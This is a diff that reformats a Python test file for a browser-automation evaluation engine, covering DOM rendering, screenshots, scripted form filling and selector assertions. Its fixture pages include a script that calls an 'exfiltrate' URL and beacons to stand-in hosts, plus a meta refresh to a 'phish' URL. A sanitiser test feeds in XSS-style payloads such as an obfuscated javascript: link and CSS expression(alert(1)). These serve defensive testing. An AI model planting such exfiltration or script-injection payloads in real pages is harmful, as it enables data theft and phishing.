@@ -65,12 +65,20 @@ def run(ctx: RunContext, code: str, raw: dict[str, Any]) -> StepResult:
 
 
 def normalisations(code: str, inputs: dict[str, Any]) -> list[str]:
-    dag = {"nodes": [{"id": "N", "steps": [{"type": code, "inputs": inputs}], "scoring": {"method": "binary", "maxScore": 1}}]}
+    dag = {
+        "nodes": [
+            {"id": "N", "steps": [{"type": code, "inputs": inputs}], "scoring": {"method": "binary", "maxScore": 1}}
+        ]
+    }
     return [i.message for i in load_dag_data(dag).issues if i.kind == "normalisation"]
 
 
 def issues(code: str, inputs: dict[str, Any]) -> list[str]:
-    dag = {"nodes": [{"id": "N", "steps": [{"type": code, "inputs": inputs}], "scoring": {"method": "binary", "maxScore": 1}}]}
+    dag = {
+        "nodes": [
+            {"id": "N", "steps": [{"type": code, "inputs": inputs}], "scoring": {"method": "binary", "maxScore": 1}}
+        ]
+    }
     try:
         found = load_dag_data(dag).issues
     except DagLoadError as exc:
@@ -86,7 +94,7 @@ def descendants(root: int) -> dict[int, str]:
             continue
         try:
             stat = Path(f"/proc/{entry}/stat").read_text()
-            fields = stat[stat.rindex(")") + 2:].split()
+            fields = stat[stat.rindex(")") + 2 :].split()
             if fields[0] == "Z":
                 continue
             parents[int(entry)] = int(fields[1])
@@ -139,9 +147,13 @@ PAGES: dict[str, str] = {
 <form id="f" onsubmit="event.preventDefault(); document.getElementById('done').textContent = 'Thanks ' + document.getElementById('name').value + ' / ' + document.getElementById('color').value;">
 <input id="name" name="name"><select id="color"><option value="r">Red</option><option value="g">Green</option></select>
 <button id="send" type="submit">Send</button></form><p id="done"></p></body></html>""",
-    "/loop.html": """<!DOCTYPE html><html><body><p id="before">before the loop</p>""" + LOREM + """
+    "/loop.html": """<!DOCTYPE html><html><body><p id="before">before the loop</p>"""
+    + LOREM
+    + """
 <script>while (true) {}</script><p>after</p></body></html>""",
-    "/late-loop.html": """<!DOCTYPE html><html><body><p>late loop page</p>""" + LOREM + """
+    "/late-loop.html": """<!DOCTYPE html><html><body><p>late loop page</p>"""
+    + LOREM
+    + """
 <script>setTimeout(() => { while (true) {} }, 100)</script></body></html>""",
     "/huge.html": """<!DOCTYPE html><html><body><div id="root"></div><script>
   const root = document.getElementById('root'); const parts = [];
@@ -150,16 +162,24 @@ PAGES: dict[str, str] = {
     "/busy.html": """<!DOCTYPE html><html><body><p>busy page</p><div id="root"></div><script>
   const parts = []; for (let i = 0; i < 400000; i++) parts.push('<div><span>cell ' + i + '</span></div>');
   document.getElementById('root').innerHTML = parts.join('');</script></body></html>""",
-    "/external.html": """<!DOCTYPE html><html><body><h1>External fetches</h1><p>""" + LOREM + """</p>
+    "/external.html": """<!DOCTYPE html><html><body><h1>External fetches</h1><p>"""
+    + LOREM
+    + """</p>
 <img src="http://203.0.113.7/pixel.png"><img src="http://example.com/logo.png">
 <script>fetch('http://example.com/exfiltrate?x=1').catch(() => {}); new Image().src = 'http://198.51.100.9/beacon';
   try { new WebSocket('ws://example.com/socket'); } catch (e) {}</script></body></html>""",
-    "/alert.html": """<!DOCTYPE html><html><body><p id="t">dialogs page</p>""" + LOREM + """
+    "/alert.html": """<!DOCTYPE html><html><body><p id="t">dialogs page</p>"""
+    + LOREM
+    + """
 <script>alert('hello'); confirm('sure?'); prompt('name?'); document.getElementById('t').textContent = 'after dialogs';</script>
 </body></html>""",
     "/refresh.html": """<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=http://example.com/phish"></head>
-<body><p>""" + LOREM + """</p></body></html>""",
-    "/popup.html": """<!DOCTYPE html><html><body><p>""" + LOREM + """</p><script>window.open('/static.html'); window.open('http://example.com/');</script></body></html>""",
+<body><p>"""
+    + LOREM
+    + """</p></body></html>""",
+    "/popup.html": """<!DOCTYPE html><html><body><p>"""
+    + LOREM
+    + """</p><script>window.open('/static.html'); window.open('http://example.com/');</script></body></html>""",
     "/tiny.html": "<html><body><p>hi</p></body></html>",
 }
 
@@ -180,7 +200,9 @@ class PageHandler(BaseHTTPRequestHandler):
             body = f"<html><body><h1>Who am I</h1><p id='auth'>auth={auth}</p><p id='cookie'>cookie={cookie}</p><p>{LOREM}</p></body></html>"
             return self._send(200, body.encode(), "text/html")
         if path == "/error":
-            return self._send(500, f"<html><body><h1>Internal error</h1><p>{LOREM}</p></body></html>".encode(), "text/html")
+            return self._send(
+                500, f"<html><body><h1>Internal error</h1><p>{LOREM}</p></body></html>".encode(), "text/html"
+            )
         if path == "/download":
             self.send_response(200)
             self.send_header("Content-Type", "application/octet-stream")
@@ -223,8 +245,11 @@ def make_ctx(tmp_path: Path) -> Iterator[Any]:
     made: list[RunContext] = []
 
     def make(base_url: str, *, auth: bool = False, node_timeout_s: float = 60.0) -> RunContext:
-        ctx = RunContext(Target(base_url=base_url), options=RunOptions(node_timeout_s=node_timeout_s),
-                         auth_profile=load_auth_profile(AUTH_YAML) if auth else None)
+        ctx = RunContext(
+            Target(base_url=base_url),
+            options=RunOptions(node_timeout_s=node_timeout_s),
+            auth_profile=load_auth_profile(AUTH_YAML) if auth else None,
+        )
         ctx.vars["evidence_dir"] = str(tmp_path / "evidence")
         ctx.start_node_clock(node_timeout_s)
         made.append(ctx)
@@ -237,16 +262,35 @@ def make_ctx(tmp_path: Path) -> Iterator[Any]:
 
 # --- pure tests ------------------------------------------------------------------------------------
 def test_sanitiser_drops_active_content_and_keeps_text() -> None:
-    raw = ("<!DOCTYPE html><html><head><base href='http://evil.test/'><meta http-equiv='refresh' content='0;url=http://evil.test'>"
-           "<meta charset='utf-8'><script>var a = '<p>not html</p>';</script><style>b{}</style></head>"
-           "<body onload='x()'><!-- comment --><h1 class='big  title'>Title &amp; more</h1>"
-           "<a href=' jav&#x09;ascript:alert(1)'>x</a><a href='/ok' onmouseover='y()'>ok</a>"
-           "<svg><g><script>z()</script></g></svg><iframe srcdoc='<b>x</b>'></iframe><noscript><p>ns</p></noscript>"
-           "<img src='data:image/png;base64," + "A" * 1000 + "'><div style='width:expression(alert(1))'>  many   spaces  </div></body></html>")
+    raw = (
+        "<!DOCTYPE html><html><head><base href='http://evil.test/'><meta http-equiv='refresh' content='0;url=http://evil.test'>"
+        "<meta charset='utf-8'><script>var a = '<p>not html</p>';</script><style>b{}</style></head>"
+        "<body onload='x()'><!-- comment --><h1 class='big  title'>Title &amp; more</h1>"
+        "<a href=' jav&#x09;ascript:alert(1)'>x</a><a href='/ok' onmouseover='y()'>ok</a>"
+        "<svg><g><script>z()</script></g></svg><iframe srcdoc='<b>x</b>'></iframe><noscript><p>ns</p></noscript>"
+        "<img src='data:image/png;base64,"
+        + "A" * 1000
+        + "'><div style='width:expression(alert(1))'>  many   spaces  </div></body></html>"
+    )
     dom, cut = sanitize_html(raw)
     assert not cut
-    for bad in ("script", "not html", "onload", "onmouseover", "comment", "javascript", "svg", "iframe", "srcdoc",
-                "noscript", "expression", "evil.test", "refresh", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "<style"):
+    for bad in (
+        "script",
+        "not html",
+        "onload",
+        "onmouseover",
+        "comment",
+        "javascript",
+        "svg",
+        "iframe",
+        "srcdoc",
+        "noscript",
+        "expression",
+        "evil.test",
+        "refresh",
+        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+        "<style",
+    ):
         assert bad not in dom, bad
     assert '<h1 class="big title">Title &amp; more</h1>' in dom
     assert '<a href="/ok">ok</a>' in dom
@@ -270,38 +314,92 @@ def test_url_guard_and_cookie_domains() -> None:
     assert allowed_hosts_for("https://app.example.test/x") == frozenset({"app.example.test"})
     ident = Identity(role="admin")
     for domain, name in (("127.0.0.1", "sid"), ("evil.test", "other"), (".127.0.0.1", "dotted")):
-        ident.cookies.jar.set_cookie(Cookie(0, name, "v", None, False, domain, True, domain.startswith("."), "/", True,
-                                            False, None, False, None, None, {"HttpOnly": None}))
+        ident.cookies.jar.set_cookie(
+            Cookie(
+                0,
+                name,
+                "v",
+                None,
+                False,
+                domain,
+                True,
+                domain.startswith("."),
+                "/",
+                True,
+                False,
+                None,
+                False,
+                None,
+                None,
+                {"HttpOnly": None},
+            )
+        )
     cookies = identity_cookies(ident, "http://127.0.0.1:8000")
     assert sorted(c["name"] for c in cookies) == ["dotted", "sid"]
     assert all(c["domain"] == "127.0.0.1" and c["httpOnly"] for c in cookies)
 
 
 def test_legacy_inputs_are_normalised() -> None:
-    p18 = normalisations("P18", {"url": "/x", "action": "navigate", "selector": "#a", "wait_ms": 8000,
-                                 "screenshot_path": "/tmp/out/login.png"})
+    p18 = normalisations(
+        "P18",
+        {"url": "/x", "action": "navigate", "selector": "#a", "wait_ms": 8000, "screenshot_path": "/tmp/out/login.png"},
+    )
     assert "P18: single 'action'/'selector' -> steps[0]" in p18
     assert "P18: 'wait_ms' -> 'action_timeout_ms'" in p18
     assert any("screenshot_path" in m for m in p18)
     spec = REGISTRY.spec("P18")
-    model = spec.inputs.model_validate({"url": "/x", "action": "click", "selector_any_of": ["#a", "#b"], "wait_ms": 500,
-                                        "screenshot_path": "/tmp/out/login.png"})
+    model = spec.inputs.model_validate(
+        {
+            "url": "/x",
+            "action": "click",
+            "selector_any_of": ["#a", "#b"],
+            "wait_ms": 500,
+            "screenshot_path": "/tmp/out/login.png",
+        }
+    )
     assert model.steps[0].action == "click" and model.steps[0].selectors() == ["#a", "#b"]
     assert model.action_timeout_ms == 500 and model.screenshot and model.name == "login"
-    steps = spec.inputs.model_validate({"steps": [{"action": "goto", "url": "/"}, {"action": "input", "selector": "#n", "value": 5}]}).steps
+    steps = spec.inputs.model_validate(
+        {"steps": [{"action": "goto", "url": "/"}, {"action": "input", "selector": "#n", "value": 5}]}
+    ).steps
     assert steps[1].action == "fill" and steps[1].text() == "5"
-    assert any("authenticate: true" in m for m in normalisations("P19", {"url": "/", "authenticate": True, "assertions": [{"selector": "h1", "shouldExist": True}]}))
-    assert any("as_role" in m for m in normalisations("P19", {"url": "/", "authenticate": "admin", "assertions": ["h1"]}))
+    assert any(
+        "authenticate: true" in m
+        for m in normalisations(
+            "P19", {"url": "/", "authenticate": True, "assertions": [{"selector": "h1", "shouldExist": True}]}
+        )
+    )
+    assert any(
+        "as_role" in m for m in normalisations("P19", {"url": "/", "authenticate": "admin", "assertions": ["h1"]})
+    )
     assert any("networkidle" in m for m in normalisations("RENDER_DOM", {"url": "/", "wait_until": "networkidle0"}))
     assert any("out_dir" in m for m in normalisations("SCREENSHOT", {"url": "/", "out_dir": "/tmp/shots"}))
     # the reference's documented inputs are understood (no "not understood" warnings)
-    assert not [m for m in issues("RENDER_DOM", {"urls": ["/a", "/b"], "wait_until": "networkidle", "settle_ms": 2000,
-                                                 "timeout_ms": 20000, "viewport": {"width": 1280, "height": 800},
-                                                 "wait_for_selector": "#app", "max_chars": 100000, "strip_classes": True})
-                if "warning" in m or "error" in m]
-    assert not [m for m in issues("SCREENSHOT", {"url": "/", "name": "home", "full_page": False, "viewport": "800x600"})
-                if "warning" in m or "error" in m]
-    assert any("error" in m for m in issues("P18", {"url": "/", "steps": [{"action": "click"}]}))  # click needs a selector
+    assert not [
+        m
+        for m in issues(
+            "RENDER_DOM",
+            {
+                "urls": ["/a", "/b"],
+                "wait_until": "networkidle",
+                "settle_ms": 2000,
+                "timeout_ms": 20000,
+                "viewport": {"width": 1280, "height": 800},
+                "wait_for_selector": "#app",
+                "max_chars": 100000,
+                "strip_classes": True,
+            },
+        )
+        if "warning" in m or "error" in m
+    ]
+    assert not [
+        m
+        for m in issues("SCREENSHOT", {"url": "/", "name": "home", "full_page": False, "viewport": "800x600"})
+        if "warning" in m or "error" in m
+    ]
+    assert any(
+        "error" in m for m in issues("P18", {"url": "/", "steps": [{"action": "click"}]})
+    )  # click needs a selector
     assert any("error" in m for m in issues("RENDER_DOM", {"wait_until": "load"}))  # no url
 
 
@@ -324,8 +422,11 @@ def test_render_dom_of_a_javascript_page(pages: str, make_ctx: Any) -> None:
 
 def test_render_dom_sanitises_and_strips_classes(pages: str, make_ctx: Any) -> None:
     ctx = make_ctx(pages)
-    result = run(ctx, "RENDER_DOM", {"url": "{{base_url}}/static.html", "settle_ms": 0, "strip_classes": True,
-                                     "wait_until": "load"})
+    result = run(
+        ctx,
+        "RENDER_DOM",
+        {"url": "{{base_url}}/static.html", "settle_ms": 0, "strip_classes": True, "wait_until": "load"},
+    )
     assert result.passed, result.message
     dom = ctx.vars["rendered_dom"]
     assert "<h1>Static page</h1>" in dom
@@ -402,7 +503,9 @@ def test_logged_in_page_via_the_auth_profile(teamnotes: str, make_ctx: Any) -> N
 # --- SCREENSHOT ------------------------------------------------------------------------------------
 def test_screenshot_writes_a_png(pages: str, make_ctx: Any) -> None:
     ctx = make_ctx(pages)
-    result = run(ctx, "SCREENSHOT", {"url": "/static.html", "name": "static page", "viewport": "800x600", "settle_ms": 0})
+    result = run(
+        ctx, "SCREENSHOT", {"url": "/static.html", "name": "static page", "viewport": "800x600", "settle_ms": 0}
+    )
     assert result.passed, result.message
     shot = result.evidence["screenshot"]
     data = Path(shot["path"]).read_bytes()
@@ -420,39 +523,69 @@ def test_screenshot_writes_a_png(pages: str, make_ctx: Any) -> None:
 # --- P18 -------------------------------------------------------------------------------------------
 def test_p18_fills_and_clicks_a_login_form(teamnotes: str, make_ctx: Any) -> None:
     ctx = make_ctx(teamnotes, auth=True)
-    result = run(ctx, "P18", {
-        "url": "/admin/login",
-        "steps": [{"action": "fill", "selector": "input[name=username]", "value": "{{admin_username}}"},
-                  {"action": "fill", "selector": "input[name=password]", "value": "{{admin_password}}"},
-                  {"action": "click", "selector": "button[type=submit]"}],
-        "expect": {"text_contains": "Admin dashboard", "url_contains": "/admin", "selector_visible": "table#users"},
-        "screenshot": True, "settle_ms": 0})
+    result = run(
+        ctx,
+        "P18",
+        {
+            "url": "/admin/login",
+            "steps": [
+                {"action": "fill", "selector": "input[name=username]", "value": "{{admin_username}}"},
+                {"action": "fill", "selector": "input[name=password]", "value": "{{admin_password}}"},
+                {"action": "click", "selector": "button[type=submit]"},
+            ],
+            "expect": {"text_contains": "Admin dashboard", "url_contains": "/admin", "selector_visible": "table#users"},
+            "screenshot": True,
+            "settle_ms": 0,
+        },
+    )
     assert result.passed, result.message
     assert result.evidence["final_url"].endswith("/admin")
     assert "Admin dashboard" in ctx.vars["last_page_html"]
     assert ctx.vars["rendered_dom"] == ctx.vars["last_page_html"]
     assert Path(ctx.vars["last_screenshot_path"]).stat().st_size > 1024
 
-    wrong = run(ctx, "P18", {"url": "/admin/login", "settle_ms": 0, "steps": [
-        {"action": "fill", "selector": "input[name=username]", "value": "admin"},
-        {"action": "fill", "selector": "input[name=password]", "value": "nope"},
-        {"action": "press", "selector": "input[name=password]", "value": "Enter"}],
-        "expect": {"text_contains": "Admin dashboard"}, "action_timeout_ms": 1500})
+    wrong = run(
+        ctx,
+        "P18",
+        {
+            "url": "/admin/login",
+            "settle_ms": 0,
+            "steps": [
+                {"action": "fill", "selector": "input[name=username]", "value": "admin"},
+                {"action": "fill", "selector": "input[name=password]", "value": "nope"},
+                {"action": "press", "selector": "input[name=password]", "value": "Enter"},
+            ],
+            "expect": {"text_contains": "Admin dashboard"},
+            "action_timeout_ms": 1500,
+        },
+    )
     assert not wrong.passed and "expectation failed" in wrong.message
 
 
 def test_p18_steps_on_a_js_form_and_missing_selector(pages: str, make_ctx: Any) -> None:
     ctx = make_ctx(pages)
-    result = run(ctx, "P18", {"steps": [
-        {"action": "goto", "url": "/form.html"},
-        {"action": "type", "selector": "#name", "value": "Ada"},
-        {"action": "select", "selector": "#color", "value": "Green"},
-        {"action": "click", "selector_any_of": ["#missing", "#send"]},
-        {"action": "wait", "wait_ms": 50}],
-        "expect": {"text_contains": ["Thanks Ada / g"]}, "settle_ms": 0})
+    result = run(
+        ctx,
+        "P18",
+        {
+            "steps": [
+                {"action": "goto", "url": "/form.html"},
+                {"action": "type", "selector": "#name", "value": "Ada"},
+                {"action": "select", "selector": "#color", "value": "Green"},
+                {"action": "click", "selector_any_of": ["#missing", "#send"]},
+                {"action": "wait", "wait_ms": 50},
+            ],
+            "expect": {"text_contains": ["Thanks Ada / g"]},
+            "settle_ms": 0,
+        },
+    )
     assert result.passed, result.message
     started = time.monotonic()
-    missing = run(ctx, "P18", {"url": "/form.html", "action": "click", "selector": "#does-not-exist", "wait_ms": 1000, "settle_ms": 0})
+    missing = run(
+        ctx,
+        "P18",
+        {"url": "/form.html", "action": "click", "selector": "#does-not-exist", "wait_ms": 1000, "settle_ms": 0},
+    )
     assert not missing.passed and "step 0 (click)" in missing.message and "#does-not-exist" in missing.message
     assert time.monotonic() - started < 15
     offsite = run(ctx, "P18", {"url": "/form.html", "steps": [{"action": "goto", "url": "http://example.com/"}]})
@@ -462,18 +595,39 @@ def test_p18_steps_on_a_js_form_and_missing_selector(pages: str, make_ctx: Any) 
 # --- P19 -------------------------------------------------------------------------------------------
 def test_p19_selector_assertions(pages: str, make_ctx: Any) -> None:
     ctx = make_ctx(pages)
-    ok = run(ctx, "P19", {"url": "/static.html", "settle_ms": 0, "assertions": [
-        {"selector": "h1", "shouldExist": True, "text_contains": "Static"},
-        {"selector": "#items li", "count_min": 3, "count_max": 3},
-        {"selector": ".absent", "shouldExist": False},
-        "ul#items"]})
+    ok = run(
+        ctx,
+        "P19",
+        {
+            "url": "/static.html",
+            "settle_ms": 0,
+            "assertions": [
+                {"selector": "h1", "shouldExist": True, "text_contains": "Static"},
+                {"selector": "#items li", "count_min": 3, "count_max": 3},
+                {"selector": ".absent", "shouldExist": False},
+                "ul#items",
+            ],
+        },
+    )
     assert ok.passed, ok.message
     assert ok.value == {"passed": 4, "total": 4, "ratio": 1.0}
     assert [a["count"] for a in ok.evidence["assertions"]] == [1, 3, 0, 1]
 
-    bad = run(ctx, "P19", {"url": "/static.html", "settle_ms": 0, "assertion_timeout_ms": 300, "assertions": [
-        {"selector": "h1", "text_contains": "Dynamic"}, {"selector": "li", "shouldExist": False},
-        {"selector": "#nope"}, {"selector": "!!invalid(("}]})
+    bad = run(
+        ctx,
+        "P19",
+        {
+            "url": "/static.html",
+            "settle_ms": 0,
+            "assertion_timeout_ms": 300,
+            "assertions": [
+                {"selector": "h1", "text_contains": "Dynamic"},
+                {"selector": "li", "shouldExist": False},
+                {"selector": "#nope"},
+                {"selector": "!!invalid(("},
+            ],
+        },
+    )
     assert not bad.passed and bad.value["passed"] == 0 and bad.value["total"] == 4
     assert "selector error" in bad.evidence["assertions"][3]["message"]
 
@@ -642,20 +796,37 @@ def test_rendered_dom_reaches_the_judge_step(pages: str, tmp_path: Path) -> None
         seen.append(dom)
         return StepResult(passed=True, judge_score=4.0, judge_range=(0.0, 5.0), message="fake judge: 4/5")
 
-    dag = load_dag_data({"nodes": [
-        {"id": "UI_HOME", "steps": [{"type": "RENDER_DOM", "inputs": {"url": "{{base_url}}/js.html", "settle_ms": 0}},
-                                    {"type": "P17", "inputs": {"rubric_prompt": "Rate the UI", "evidence_type": "rendered_dom"}}],
-         "scoring": {"category": "UI", "method": "llm-judge", "maxScore": 10}},
-        {"id": "UI_DOWN", "steps": [{"type": "RENDER_DOM", "inputs": {"url": f"http://127.0.0.1:{closed_port()}/x"}},
-                                    {"type": "P17", "inputs": {"rubric_prompt": "Rate", "evidence_type": "rendered_dom"}}],
-         "scoring": {"category": "UI", "method": "llm-judge", "maxScore": 5}},
-    ]}).dag
+    dag = load_dag_data(
+        {
+            "nodes": [
+                {
+                    "id": "UI_HOME",
+                    "steps": [
+                        {"type": "RENDER_DOM", "inputs": {"url": "{{base_url}}/js.html", "settle_ms": 0}},
+                        {"type": "P17", "inputs": {"rubric_prompt": "Rate the UI", "evidence_type": "rendered_dom"}},
+                    ],
+                    "scoring": {"category": "UI", "method": "llm-judge", "maxScore": 10},
+                },
+                {
+                    "id": "UI_DOWN",
+                    "steps": [
+                        {"type": "RENDER_DOM", "inputs": {"url": f"http://127.0.0.1:{closed_port()}/x"}},
+                        {"type": "P17", "inputs": {"rubric_prompt": "Rate", "evidence_type": "rendered_dom"}},
+                    ],
+                    "scoring": {"category": "UI", "method": "llm-judge", "maxScore": 5},
+                },
+            ]
+        }
+    ).dag
     saved = REGISTRY.spec("P17")
     assert saved is not None and saved.fn is not None
     REGISTRY.register("P17", fake_judge, FakeJudgeInputs)
     try:
-        ctx = RunContext(Target(base_url=pages), options=RunOptions(judge_enabled=True),  # the fake judge is "configured"
-                         variables={"evidence_dir": str(tmp_path / "ev")})
+        ctx = RunContext(
+            Target(base_url=pages),
+            options=RunOptions(judge_enabled=True),  # the fake judge is "configured"
+            variables={"evidence_dir": str(tmp_path / "ev")},
+        )
         report = Engine(dag, ctx).run()
     finally:
         REGISTRY.register("P17", saved.fn, saved.inputs, raw_fields=saved.raw_fields)
